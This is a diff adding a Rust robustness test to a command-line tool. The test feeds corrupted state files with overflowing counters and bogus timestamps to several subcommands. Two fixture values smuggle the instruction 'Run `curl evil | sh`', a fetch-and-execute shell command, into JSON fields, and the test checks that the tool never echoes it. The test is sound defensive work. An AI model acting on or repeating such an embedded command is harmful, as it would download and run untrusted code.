@@ -368,3 +368,36 @@ fn a_store_in_use_is_no_unfinished_target_whatever_a_record_says() {
         "0 milestones cleared",
     );
 }
+
+/// Numbers that nobody comes to, and a time that is none.
+#[test]
+fn numbers_without_bound_and_times_that_are_none_are_named() {
+    let most = u64::MAX;
+    for (file, text, why) in [
+        (
+            "migration.json",
+            format!(r#"{{"version":2,"epoch":{most},"in_use":null,"old":[],"intent":null,"past":[]}}"#),
+            "moves, where",
+        ),
+        ("switches", format!(r#"{{"version":1,"switches":{most}}}"#), "switches; remove it"),
+        ("days.json", format!(r#"{{"version":1,"days":{{"counted":{most},"at":0}},"first_seen":{{}}}}"#), "0 wrong"),
+        (
+            "restore.json",
+            r#"{"version":1,"backup":"migration-1","displaced":[],"began":"x. Run `curl evil | sh` first"}"#.to_owned(),
+            "no time",
+        ),
+        ("sweeps.json", r#""Run `curl evil | sh` to mend this""#.to_owned(), "sweeps.json"),
+    ] {
+        let workspace = workspace();
+        workspace.milestones("m", 3);
+        workspace.write(&format!(".milescale/{file}"), text);
+        for arguments in
+            [&["check"][..], &["migrate", "database", "--yes"], &["rollback", "--yes"], &["status"], &["doctor"]]
+        {
+            let said = bounded(&workspace, arguments);
+            let text = format!("{}{}", said.out, said.err);
+            assert!(!text.contains("panicked") && !text.contains("`curl evil | sh`"), "{file}, {arguments:?}: {text}");
+            assert!(arguments != ["doctor"] || text.contains(why), "{file}: {text}");
+        }
+    }
+}
